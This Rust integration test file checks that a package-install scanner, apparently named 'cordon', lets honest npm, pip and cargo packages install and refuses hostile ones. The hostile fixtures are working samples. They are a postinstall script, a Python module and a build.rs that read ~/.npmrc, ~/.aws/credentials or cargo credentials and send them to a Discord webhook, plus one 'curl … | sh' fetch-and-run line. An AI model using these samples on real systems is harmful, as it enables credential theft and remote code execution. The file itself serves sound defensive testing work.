//! `cordon install npm|pip|cargo` end to end, against a fake registry on
//! loopback that serves one honest package and one whose code reads
//! credentials and sends them away (harmlessly: the hostile packages
//! are refused before anything runs them, which the tests check). The
//! honest one installs in the sandbox; the other is refused with its
//! finding shown and never reaches the workspace.

#[path = "../../cordon-registry/tests/support/mod.rs"]
mod fake;
mod registry_support;
#[path = "support/sandbox.rs"]
mod sandbox;
mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use cordon_registry::{Algorithm, Digest};
use fake::{FakeRegistry, Reply};
use registry_support::{publish_npm, registry_flags};
use sandbox::{PYTHON, Scratch};
use serde_json::{Value, json};

/// What a pip index answers with, so that pip reads the JSON API.
const PYPI_JSON: &str = "application/vnd.pypi.simple.v1+json";

/// A postinstall script that reads `~/.npmrc`, decodes and evaluates a
/// payload, and posts the token to a chat webhook.
const HOSTILE_JS: &str = r#"const fs = require("fs");
const os = require("os");
const https = require("https");

const token = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());
const req = https.request(
  "https://discord.com/api/webhooks/1/collect",
  { method: "POST" },
);
req.write(JSON.stringify({ env: process.env, token }));
req.end();
"#;

/// The same behaviour in Python, at import time.
const HOSTILE_PY: &str = r#"import base64, os, urllib.request

creds = open(os.path.expanduser("~/.aws/credentials")).read()
exec(base64.b64decode("cHJpbnQoMSk="))
urllib.request.urlopen(
    "https://discord.com/api/webhooks/1/collect",
    data=(creds + str(dict(os.environ))).encode(),
)
"#;

/// Whether this machine can run the end-to-end installs.
fn can_run(test: &str, tool: &str) -> bool {
    if !sandbox::is_root() {
        sandbox::skip(test, "the sandbox tests run as root, as CI does");
        return false;
    }
    let found = Command::new(tool).arg("--version").output();
    if !found.is_ok_and(|out| out.status.success()) {
        sandbox::skip(test, &format!("no `{tool}` on PATH"));
        return false;
    }
    true
}

/// `cordon install` in `workspace` against `registry`, with the report
/// written to `report`.
fn install(
    workspace: &Path,
    registry: &FakeRegistry,
    report: &Path,
    rest: &[&str],
) -> support::Run {
    let flags = registry_flags(registry);
    let mut args = vec![
        "install",
        "--no-cache",
        "--fetch-timeout",
        "10",
        "--timeout",
        "120s",
        "--report",
        report.to_str().unwrap(),
        "--workspace",
        workspace.to_str().unwrap(),
    ];
    args.extend(flags.iter().map(String::as_str));
    args.extend(rest);
    support::cordon(workspace, &args)
}

/// The report at `path` that `run` wrote.
fn read_json(path: &Path, run: &support::Run) -> Value {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| {
        panic!("no report at {} ({e}):\n{run}", path.display())
    });
    serde_json::from_str(&text).unwrap()
}

/// The npm package with a hostile postinstall script.
fn npm_hostile(name: &str) -> Vec<u8> {
    let manifest = json!({
        "name": name, "version": "1.0.0", "main": "index.js",
        "scripts": {"postinstall": "node setup.js"},
    });
    fake::tar_gz(&[
        ("package/package.json", &manifest.to_string()),
        ("package/index.js", "module.exports = 1;\n"),
        ("package/setup.js", HOSTILE_JS),
    ])
}

#[test]
fn npm_installs_the_honest_package_and_refuses_the_hostile_one() {
    if !can_run("npm install", "npm") {
        return;
    }
    let registry = FakeRegistry::start();
    let honest = fake::npm_honest("tidyfmt", "1.0.0");
    publish_npm(&registry, "tidyfmt", "1.0.0", &honest);
    publish_npm(&registry, "loudpost", "1.0.0", &npm_hostile("loudpost"));
    let scratch = Scratch::new();
    let ws = &scratch.workspace;
    let report = scratch.root.join("install.json");

    let good = install(ws, &registry, &report, &["npm", "tidyfmt"]);
    let good_report = read_json(&report, &good);
    let bad = install(ws, &registry, &report, &["npm", "loudpost"]);
    let bad_report = read_json(&report, &bad);

    assert_eq!(good.code, Some(0), "{good}");
    assert!(ws.join("node_modules/tidyfmt/index.js").is_file(), "{good}");
    let manifest = std::fs::read_to_string(ws.join("package.json")).unwrap();
    assert!(manifest.contains("tidyfmt"), "{manifest}");
    assert_eq!(good_report["install"]["refused"], false);
    assert_eq!(good_report["scan"]["packages"][0]["verdict"], "clean");
    assert_eq!(good_report["run"]["exit"]["status"], 0);

    assert_eq!(bad.code, Some(1), "{bad}");
    assert!(bad.stderr.contains("npm:loudpost@1.0.0: malicious"), "{bad}");
    assert!(bad.stderr.contains("setup.js:"), "{bad}");
    assert!(bad.stderr.contains("install refused"), "{bad}");
    assert!(!ws.join("node_modules/loudpost").exists(), "{bad}");
    let manifest = std::fs::read_to_string(ws.join("package.json")).unwrap();
    assert!(!manifest.contains("loudpost"), "{manifest}");
    assert_eq!(bad_report["install"]["refused"], true);
    assert_eq!(bad_report["install"]["blocking"][0], "npm:loudpost@1.0.0");
    assert!(bad_report["run"].is_null());
}

#[test]
fn npm_force_installs_a_refused_package_and_records_why() {
    if !can_run("npm install --force", "npm") {
        return;
    }
    let registry = FakeRegistry::start();
    let quiet = json!({"name": "loudquiet", "version": "1.0.0"});
    let tarball = fake::tar_gz(&[
        ("package/package.json", &quiet.to_string()),
        ("package/index.js", HOSTILE_JS),
    ]);
    publish_npm(&registry, "loudquiet", "1.0.0", &tarball);
    let scratch = Scratch::new();
    let report = scratch.root.join("install.json");

    let forced = install(
        &scratch.workspace,
        &registry,
        &report,
        &["--force", "reviewed by hand", "npm", "loudquiet"],
    );

    let json = read_json(&report, &forced);
    assert_eq!(forced.code, Some(0), "{forced}");
    assert!(forced.stderr.contains("reviewed by hand"), "{forced}");
    let installed = scratch.workspace.join("node_modules/loudquiet/index.js");
    assert!(installed.is_file(), "{forced}");
    assert_eq!(json["install"]["forced"], "reviewed by hand");
    assert_eq!(json["install"]["refused"], false);
}

/// A pure-Python wheel of `name` 1.0 whose package holds `code`.
fn wheel(name: &str, code: &str) -> (String, Vec<u8>) {
    let filename = format!("{name}-1.0-py3-none-any.whl");
    let info = format!("{name}-1.0.dist-info");
    let metadata =
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
    let wheel = "Wheel-Version: 1.0\nGenerator: cordon-tests\n\
        Root-Is-Purelib: true\nTag: py3-none-any\n";
    let record = format!(
        "{name}/__init__.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n\
         {info}/RECORD,,\n"
    );
    let files = [
        (format!("{name}/__init__.py"), code.to_string()),
        (format!("{info}/METADATA"), metadata),
        (format!("{info}/WHEEL"), wheel.to_string()),
        (format!("{info}/RECORD"), record),
    ];
    let files: Vec<(&str, &str)> =
        files.iter().map(|(p, d)| (p.as_str(), d.as_str())).collect();
    (filename, fake::zip(&files))
}

/// Publishes a wheel where both cordon and pip read it: the JSON simple
/// API, typed as pip expects.
fn publish_wheel(registry: &FakeRegistry, name: &str, code: &str) {
    let (filename, bytes) = wheel(name, code);
    let sha256 = Digest::of(Algorithm::Sha256, &bytes).hex();
    let page = json!({
        "meta": {"api-version": "1.0"},
        "name": name,
        "files": [{"filename": filename,
                   "url": format!("../../files/{filename}"),
                   "hashes": {"sha256": sha256}}],
    });
    let reply = Reply::ok(page.to_string()).typed(PYPI_JSON);
    registry.route(&format!("/simple/{name}/"), vec![reply]);
    registry.route(&format!("/files/{filename}"), vec![Reply::ok(bytes)]);
}

/// A virtual environment at `.venv` in `workspace`.
fn make_venv(workspace: &Path) -> PathBuf {
    let venv = workspace.join(".venv");
    let status = Command::new(PYTHON)
        .args(["-m", "venv"])
        .arg(&venv)
        .status()
        .expect("cannot run python3 -m venv");
    assert!(status.success(), "python3 -m venv failed");
    venv
}

/// Where `name` would be installed in `venv`, if it is.
fn installed(venv: &Path, name: &str) -> Option<PathBuf> {
    let lib = std::fs::read_dir(venv.join("lib")).ok()?;
    lib.flatten()
        .map(|python| python.path().join("site-packages").join(name))
        .find(|path| path.exists())
}

#[test]
fn pip_installs_the_honest_wheel_and_refuses_the_hostile_one() {
    if !can_run("pip install", PYTHON) {
        return;
    }
    let registry = FakeRegistry::start();
    publish_wheel(&registry, "tidyfmt", "def pad(s, n):\n    return s\n");
    publish_wheel(&registry, "loudpost", HOSTILE_PY);
    let scratch = Scratch::new();
    let ws = &scratch.workspace;
    let venv = make_venv(ws);
    let report = scratch.root.join("install.json");

    let good = install(ws, &registry, &report, &["pip", "tidyfmt"]);
    let good_report = read_json(&report, &good);
    let bad = install(ws, &registry, &report, &["pip", "loudpost"]);
    let bad_report = read_json(&report, &bad);

    assert_eq!(good.code, Some(0), "{good}");
    assert!(installed(&venv, "tidyfmt").is_some(), "{good}");
    assert_eq!(good_report["install"]["lockfile"], "requirements.txt");
    assert_eq!(good_report["scan"]["packages"][0]["verdict"], "clean");
    assert_eq!(good_report["run"]["exit"]["status"], 0);

    assert_eq!(bad.code, Some(1), "{bad}");
    assert!(bad.stderr.contains("pypi:loudpost==1.0: malicious"), "{bad}");
    assert!(bad.stderr.contains("loudpost/__init__.py:"), "{bad}");
    assert!(installed(&venv, "loudpost").is_none(), "{bad}");
    assert_eq!(bad_report["install"]["refused"], true);
}

/// A build script that reads cargo's credentials, sends them to a chat
/// service and pipes a paste into a shell.
const HOSTILE_BUILD_RS: &str = r#"use std::io::Write;
use std::net::TcpStream;
use std::process::Command;

fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    let token = std::fs::read_to_string(format!("{home}/.cargo/credentials.toml"))
        .unwrap_or_default();
    if let Ok(mut stream) = TcpStream::connect("discord.com:443") {
        let _ = stream.write_all(token.as_bytes());
    }
    let _ = Command::new("sh")
        .arg("-c")
        .arg("curl -s https://pastebin.com/raw/x | sh")
        .status();
}
"#;

/// Publishes a crate of `files` (besides its `Cargo.toml`) in the fake
/// sparse index and its downloads.
fn publish_crate(registry: &FakeRegistry, name: &str, files: &[(&str, &str)]) {
    let root = format!("{name}-1.0.0");
    let manifest =
        format!("[package]\nname = \"{name}\"\nversion = \"1.0.0\"\n");
    let mut entries = vec![(format!("{root}/Cargo.toml"), manifest)];
    for (path, text) in files {
        entries.push((format!("{root}/{path}"), text.to_string()));
    }
    let entries: Vec<(&str, &str)> =
        entries.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
    let bytes = fake::tar_gz(&entries);
    let line = json!({"name": name, "vers": "1.0.0", "deps": [],
                      "features": {}, "yanked": false,
                      "cksum": Digest::of(Algorithm::Sha256, &bytes).hex()});
    let index = format!("/index/{}/{}/{name}", &name[..2], &name[2..4]);
    registry.route(&index, vec![Reply::ok(format!("{line}\n"))]);
    let file = format!("/crates/{name}/{name}-1.0.0.crate");
    registry.route(&file, vec![Reply::ok(bytes)]);
}

/// A project in `dir` that depends on `dependency` from `registry`,
/// which cargo reaches in place of crates.io.
fn cargo_project(dir: &Path, registry: &FakeRegistry, dependency: &str) {
    let manifest = format!(
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n\
         [dependencies]\n{dependency} = \"1\"\n\n[workspace]\n"
    );
    let config = format!(
        "[source.crates-io]\nreplace-with = \"fake\"\n\n\
         [source.fake]\nregistry = \"sparse+{}/\"\n",
        registry.url("/index")
    );
    std::fs::create_dir_all(dir.join("src")).unwrap();
    std::fs::create_dir_all(dir.join(".cargo")).unwrap();
    std::fs::write(dir.join("Cargo.toml"), manifest).unwrap();
    std::fs::write(dir.join("src/main.rs"), "fn main() {}\n").unwrap();
    std::fs::write(dir.join(".cargo/config.toml"), config).unwrap();
}

#[test]
fn cargo_builds_with_the_honest_crate_and_refuses_the_hostile_one() {
    if !can_run("cargo build", "cargo") {
        return;
    }
    let registry = FakeRegistry::start();
    let dl = registry.url("/crates/{crate}/{crate}-{version}.crate");
    let config = json!({"dl": dl}).to_string();
    registry.route("/index/config.json", vec![Reply::ok(config)]);
    publish_crate(&registry, "tidyfmt", &[("src/lib.rs", "pub fn f() {}\n")]);
    publish_crate(
        &registry,
        "loudpost",
        &[("src/lib.rs", "pub fn f() {}\n"), ("build.rs", HOSTILE_BUILD_RS)],
    );
    let (good_dir, bad_dir) = (Scratch::new(), Scratch::new());
    cargo_project(&good_dir.workspace, &registry, "tidyfmt");
    cargo_project(&bad_dir.workspace, &registry, "loudpost");
    let report = good_dir.root.join("install.json");

    let good = install(&good_dir.workspace, &registry, &report, &["cargo"]);
    let good_report = read_json(&report, &good);
    let bad = install(&bad_dir.workspace, &registry, &report, &["cargo"]);

    assert_eq!(good.code, Some(0), "{good}");
    assert!(good_dir.workspace.join("target/debug/app").is_file(), "{good}");
    assert_eq!(good_report["install"]["lockfile"], "Cargo.lock");
    let scanned = &good_report["scan"]["packages"][0];
    assert_eq!(scanned["target"], "crates:tidyfmt@1.0.0", "{good_report}");
    assert_eq!(scanned["verdict"], "clean");
    assert_eq!(bad.code, Some(1), "{bad}");
    assert!(bad.stderr.contains("crates:loudpost@1.0.0: malicious"), "{bad}");
    assert!(bad.stderr.contains("build.rs:"), "{bad}");
    assert!(!bad_dir.workspace.join("target").exists(), "{bad}");
}

#[test]
fn a_missing_virtual_environment_is_a_clear_error() {
    let registry = FakeRegistry::start();
    let scratch = Scratch::new();
    let report = scratch.root.join("install.json");

    let run = install(&scratch.workspace, &registry, &report, &["pip", "x"]);

    assert_eq!(run.code, Some(2), "{run}");
    assert!(run.stderr.contains("python3 -m venv"), "{run}");
    assert!(registry.requests().is_empty(), "{run}");
}
